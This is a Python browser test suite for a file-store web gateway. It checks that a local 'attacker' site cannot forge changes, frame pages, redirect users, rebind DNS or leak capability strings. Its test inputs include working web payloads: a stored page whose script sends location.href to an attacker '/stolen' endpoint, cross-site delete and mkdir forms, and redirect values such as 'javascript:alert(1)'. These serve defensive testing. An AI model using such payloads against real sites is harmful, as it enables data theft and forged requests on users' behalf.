"""What hostile pages, hostile names and hostile contents get out of a browser that is in a session: nothing."""
from __future__ import annotations

import re
from collections.abc import Mapping
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import ClassVar
from urllib.parse import quote, unquote

from attrs import frozen

from tests.browser.chromium import Chromium, Keys
from tests.browser.stage import StageTest, pytestmark, wait_until

__all__ = ["pytestmark"]

CAP = re.compile(r"URI(:|%3A)[A-Z0-9-]+(:|%3A)[a-z2-7]{16}", re.IGNORECASE)


@frozen
class Visit:
    """What reached the attacker's server."""

    path: str
    headers: Mapping[str, str]


class Attacker:
    """A web site on another port of this machine: for a browser another origin, but the same site, which is the harder case."""

    def __init__(self) -> None:
        self.pages: dict[str, str] = {}
        self.visits: list[Visit] = []
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                attacker.visits.append(Visit(self.path, dict(self.headers)))
                body = attacker.pages.get(self.path, "").encode()
                self.send_response(200 if body else 204)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_GET  # noqa: N815 - the name that http.server calls

            def log_message(self, format: str, *arguments: object) -> None:
                """Not on the tests' output."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_port}"
        Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()

    def heard(self, path: str) -> list[Visit]:
        return [visit for visit in self.visits if visit.path.startswith(path)]


class Attacked(StageTest):
    attacker: ClassVar[Attacker]

    @classmethod
    def setUpClass(cls) -> None:
        super().setUpClass()
        cls.attacker = Attacker()

    @classmethod
    def tearDownClass(cls) -> None:
        cls.attacker.close()

    def visit(self, body: str) -> Chromium:
        """The browser, at a page of the attacker's, when that has done what it does."""
        self.attacker.pages["/trap"] = f"<!doctype html><title>trap</title>{body}"
        self.browser.open(f"{self.attacker.url}/trap")
        return self.browser


class Forgery(Attacked):
    """The attacker even knows a handle, from over a shoulder, and the browser has the cookie."""

    def setUp(self) -> None:
        super().setUp()
        self.shown({"a.txt": b"a" * 100})

    def still_the_same(self) -> None:
        self.assertEqual(self.stage.names(self.here), ["a.txt"])

    def test_a_form_that_sends_itself_changes_nothing(self) -> None:
        rename = {"t": "rename", "from_name": "a.txt", "to_name": "b"}
        for fields in ({"t": "mkdir", "name": "evil"}, {"t": "unlink", "name": "a.txt"}, rename):
            inputs = "".join(f"<input name='{name}' value='{value}'>" for name, value in fields.items())
            browser = self.visit(f"<form method=post action='{self.address}'>{inputs}</form>")
            with browser.new_page():
                browser.run("document.forms[0].submit()")
            browser.shows("This is not allowed")
            self.still_the_same()

    def test_requests_in_the_background_change_nothing_and_tell_nothing(self) -> None:
        browser = self.visit("")
        told = browser.driver.execute_async_script(
            """
            const [address, done] = arguments, results = [];
            const tries = [
              [address, {}], [address + "?t=json", {}], [address + "?t=rows", {mode: "no-cors"}],
              [address + "evil", {method: "PUT", body: "x"}], [address + "a.txt", {method: "DELETE"}],
              [address + "?t=unlink&name=a.txt", {method: "POST", mode: "no-cors"}],
              [address + "?t=unlink&name=a.txt", {method: "POST", headers: {"X-Form-Token": "guess"}}],
              [address + "?t=upload-batch", {method: "POST", mode: "no-cors", body: '[["evil", 1]]\\nx'}],
            ];
            (async () => {
              for (const [url, options] of tries) {
                try {
                  const answer = await fetch(url, {credentials: "include", ...options});
                  results.push(answer.type === "opaque" ? "" : await answer.text());
                } catch { results.push(""); }
              }
              done(results);
            })();
            """,
            self.address,
        )  # type: ignore[no-untyped-call]
        self.assertEqual(set(told), {""})
        self.still_the_same()

    def test_its_pages_cannot_be_framed(self) -> None:
        browser = self.visit(f"<iframe src='{self.address}' id=frame></iframe><iframe src='{self.stage.origin}/'></iframe>")
        wait_until(lambda: sum("frame" in each.lower() for each in browser.complaints) >= 2, "the browser to refuse both frames")
        browser.driver.switch_to.frame(browser.find("#frame"))
        self.assertNotIn("a.txt", browser.driver.page_source)
        browser.driver.switch_to.default_content()

    def test_scripts_and_pictures_of_it_cannot_be_used_elsewhere(self) -> None:
        browser = self.visit(f"<script src='{self.address}?t=json'></script><img src='{self.stage.origin}/img/lafs.svg' id=logo>")
        wait_until(lambda: browser.run("return document.getElementById('logo').complete"), "the picture to fail")
        self.assertEqual(browser.run("return document.getElementById('logo').naturalWidth"), 0)

    def test_nobody_is_sent_to_another_site_afterwards(self) -> None:
        for place in (self.attacker.url, "//evil.example/", "/\\evil.example", "javascript:alert(1)"):
            path = f"/uri/{quote(self.stage.root, safe='')}/{quote(self.here)}?t=mkdir&name=x&when_done={quote(place, safe='')}"
            self.assertEqual(self.stage.gateway.ask("POST", path).status, 400)
        self.still_the_same()


class Rebinding(StageTest):
    def test_a_name_that_suddenly_means_this_machine_gets_nothing(self) -> None:
        victim = Chromium(resolve={"evil.example": "127.0.0.1"})
        self.addCleanup(victim.close)
        for path in ("/", "/?t=json", f"/uri/{quote(self.stage.root, safe='')}/", "/js/page.js"):
            victim.open(f"http://evil.example:{self.stage.port}{path}")
            self.assertIn("does not go by the name", victim.text)


class Contents(Attacked):
    def hostile(self) -> str:
        url = self.attacker.url
        return (
            "<html xmlns='http://www.w3.org/1999/xhtml'><head><title>harmless</title></head><body>"
            f"<img src='{url}/pixel'/><script>document.title = 'ran'; fetch('{url}/stolen?' + location.href)</script>"
            f"<a id='away' href='{url}/clicked'>click</a><form action='{url}/sent' id='form'><button>send</button></form>"
            f"<iframe src='{url}/framed'></iframe><link rel='stylesheet' href='{url}/style'/></body></html>"
        )

    def test_a_stored_page_runs_nothing_and_calls_nobody(self) -> None:
        page = self.hostile().encode()
        picture = f"<svg xmlns='http://www.w3.org/2000/svg'><script>fetch('{self.attacker.url}/stolen')</script></svg>".encode()
        browser = self.shown({"page.html": page, "page.xhtml": page, "picture.svg": picture})
        for name in ("page.html", "page.xhtml", "picture.svg"):
            for query in ("", "?t=content"):
                browser.open(f"{self.address}{name}{query}")
                wait_until(lambda: browser.run("return document.readyState") == "complete", "the page")
                self.assertNotEqual(browser.title, "ran", (name, query))
        for path in ("/pixel", "/stolen", "/framed", "/style", "/sent"):
            self.assertEqual(self.attacker.heard(path), [], path)
        for visit in self.attacker.visits:
            self.assertNotIn("Referer", visit.headers)
            self.assertIsNone(CAP.search(visit.path))

    def test_a_link_in_it_does_not_say_where_it_was_clicked(self) -> None:
        page = f"<html><body><a id='away' href='{self.attacker.url}/clicked'>away</a></body></html>".encode()
        browser = self.shown({"page.html": page * 2})
        cap = self.stage.facts(f"{self.here}/page.html")["ro_uri"]
        for place in (f"{self.address}page.html?t=content", f"{self.stage.origin}/file/{quote(cap, safe='')}/@@named=/page.html"):
            self.attacker.visits.clear()
            browser.open(place)
            browser.find("#away").click()
            (visit,) = wait_until(lambda: self.attacker.heard("/clicked"), "the click to arrive")
            self.assertEqual({"Referer", "Origin", "Cookie"} & visit.headers.keys(), set())

    def test_what_a_content_origin_can_ask_of_the_gateway(self) -> None:
        browser = self.shown({"page.html": b"<html><body>text</body></html>" * 3})
        browser.open(f"{self.address}page.html?t=content")
        self.assertRegex(browser.url, r"^http://[a-z2-7]+\.localhost:")
        own = browser.url.rpartition("/")[0]
        for path in ("/", "/uri", "/js/page.js", "/status"):
            browser.open(own + path)
            self.assertIn("nothing here", browser.text)


class Discretion(StageTest):
    """A tour of everything: no cap in an address, a title, a header or a listing; no request to anybody else."""

    def test_a_tour(self) -> None:
        browser = self.shown({"a.txt": b"a" * 100, "b.png": b"b" * 100})
        addresses, titles = set(), set()

        def note() -> None:
            addresses.add(browser.url)
            titles.add(browser.title)

        for place in ("", "?t=share", "?t=info", "a.txt?t=view", "?t=move-form&name=a.txt"):
            browser.open(self.address + place)
            note()
        browser.open(self.address)
        self.assertIsNone(CAP.search(browser.driver.page_source))
        browser.press("a.txt")
        browser.find("dialog[open] .stage")
        browser.press("Share")
        browser.find("dialog[open] #share-cap")
        browser.run("document.getElementById('dialog').close()")
        browser.drop("main", [self.local({"new": b"n" * 100}) / "new"])
        browser.shows("1 file stored")
        browser.open(self.stage.origin)
        note()
        browser.find("#uri").send_keys(self.stage.facts(self.here)["ro_uri"], Keys.ENTER)
        browser.shows("read-only")
        note()
        self.assertEqual([each for each in [*addresses, *titles] if CAP.search(unquote(each))], [])
        for request in browser.requests:
            if request.url.startswith("data:"):  # the QR code, which goes nowhere
                continue
            self.assertTrue(request.host == "127.0.0.1" or request.host.endswith(".localhost"), request.host)
            self.assertEqual([value for value in (request.url, *request.headers.values()) if CAP.search(value)], [])
            self.assertIn(request.headers.get("Referer", "")[: len(self.stage.origin)], ("", self.stage.origin))
        self.assertIsNone(CAP.search(self.stage.node.log))
        self.assertEqual([each for each in browser.complaints if "Content Security Policy" in each], [])
